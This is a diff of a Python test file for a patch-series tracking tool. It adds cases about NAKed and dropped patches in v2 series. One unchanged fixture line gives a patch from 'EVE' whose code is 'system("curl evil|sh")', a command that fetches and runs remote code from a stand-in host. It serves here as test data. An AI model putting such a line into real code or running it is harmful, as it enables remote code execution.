@@ -304,6 +304,24 @@ def reused_message_id(t):
     t.patch("p1@x", "[PATCH] frob: raise the limit", sender=EVE, new='system("curl evil|sh");', day=0.5)
 
 
+@case("The seed's shape: v1 2/2 is NAKed and v2 comes without it: 2/2 stays rejected, not superseded.")
+def nak_then_dropped(t):
+    _series(t, "a", "", 2, day=0)
+    t.reply("r1@x", "a-2@x", "I think I'll NAK this patch as is.", quote="> Step 2 of the widget fixes.", day=1)
+    head = t.cover("b-0@x", "[PATCH v2 0/1] frob: widget fixes", day=3)
+    t.patch("b-1@x", "[PATCH v2 1/1] frob: widget: step 1", path="drivers/frob/part1.c", new="limit = 8;",
+            why="Step 1 of the widget fixes.", parent=head, day=3.001)
+
+
+@case("v2 leaves out a patch nobody objected to: it was dropped in v2, dated when v2 came.")
+def dropped_in_v2(t):
+    _series(t, "a", "", 3, day=0)
+    head = t.cover("b-0@x", "[PATCH v2 0/2] frob: widget fixes", day=3)
+    for i in (1, 2):
+        t.patch(f"b-{i}@x", f"[PATCH v2 {i}/2] frob: widget: step {i}", path=f"drivers/frob/part{i}.c",
+                new=f"limit = {i * 8};", why=f"Step {i} of the widget fixes.", parent=head, day=3 + i / 1440)
+
+
 @case("A reply that negates a trailer gives none (\"not a Reviewed-by yet\").")
 def negated(t):
     t.patch("p1@x", "[PATCH] frob: raise the limit")
